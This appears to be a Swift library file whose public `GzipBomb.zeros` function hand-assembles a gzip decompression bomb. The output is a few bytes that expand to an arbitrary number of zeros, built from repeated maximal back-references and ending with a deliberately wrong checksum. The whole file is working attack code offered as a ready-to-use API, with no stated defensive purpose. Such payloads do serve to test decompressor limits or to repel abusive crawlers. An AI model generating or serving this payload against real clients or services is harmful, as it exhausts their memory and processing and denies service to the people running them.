public import Foundation

/// A few bytes that unpack to very many zeros.
public enum GzipBomb {
    /// Gzip data for at least `length` zeros: one literal zero, then copies of the longest kind (RFC 1951, fixed codes).
    ///
    /// The checksum at the end is wrong; a client that reads it has unpacked everything.
    public static func zeros(_ length: Int) -> Data {
        var bits = BitWriter()
        bits.write([1, 1, 0])
        bits.write([0, 0, 1, 1, 0, 0, 0, 0])
        for _ in 0..<16 { bits.write(longestCopy) }
        bits.write([0, 0, 0, 0, 0, 0, 0])
        // Eight copies are thirteen whole bytes, so the rest repeats itself.
        let period = bits.bytes[2..<15]
        let middle = repeatElement(period, count: length / (258 * 8)).joined()
        let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]
        return Data(header + bits.bytes[..<15] + middle + bits.bytes[15...] + [UInt8](repeating: 0, count: 8))
    }

    /// 258 bytes from one byte back: length code 285 in eight bits, distance code 0 in five.
    private static let longestCopy: [UInt8] = [1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0]

    private struct BitWriter {
        private(set) var bytes: [UInt8] = []
        private var count = 0

        /// Fills bytes from their lowest bit.
        mutating func write(_ bits: [UInt8]) {
            for bit in bits {
                if count % 8 == 0 { bytes.append(0) }
                bytes[count / 8] |= bit << UInt8(count % 8)
                count += 1
            }
        }
    }
}
